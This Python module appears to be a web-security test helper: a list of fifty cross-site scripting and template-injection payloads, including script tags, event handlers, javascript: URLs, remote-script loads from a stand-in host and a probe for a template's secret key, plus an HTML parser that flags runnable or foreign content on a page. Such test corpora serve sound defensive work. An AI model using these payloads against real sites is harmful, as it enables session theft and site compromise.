"""Fifty texts that would run if a page printed them as they are, and how a page gives it away."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "</script><script>alert(1)//",
    "<script src=//x.example/a.js>",
    "<script\n>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>1</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example>",
    "<meta http-equiv=refresh content=0>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=a>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x",
    "<style>@import'//x.example';</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=a>]]>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{1337*7331}}<b onclick=a>",
    "{{config.items()}}<b onclick=a>",
    "{% print(1337*7331) %}<b onclick=a>",
    "${1337*7331}#{1337*7331}<b onclick=a>",
)
REACHED = ("9801547", "SECRET_KEY")  # what a template would have made of the last four
WORDS = {"value", "aria-label"}  # attributes that are read, never followed
FOREIGN = {"iframe", "object", "embed", "base", "marquee", "math", "details-open"}


class Page(HTMLParser):
    """Collects everything of a page that could run and is not ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        has = dict(attrs)
        if tag in FOREIGN or (tag == "script" and "nonce" not in has):
            self.found.append((tag, has))
        for name, value in has.items():
            runs = (value or "").strip().casefold().startswith(("javascript:", "data:text"))
            if name.startswith("on") or name == "srcdoc" or (runs and name not in WORDS):
                self.found.append((tag, name, value))
            if (value or "").startswith(("//", "http:", "https:")) and name not in WORDS:
                self.found.append((tag, name, value))


def runs(text):
    """Return what of a page could run and is not ours."""
    page = Page()
    page.feed(text)
    return page.found + [word for word in REACHED if word in text]
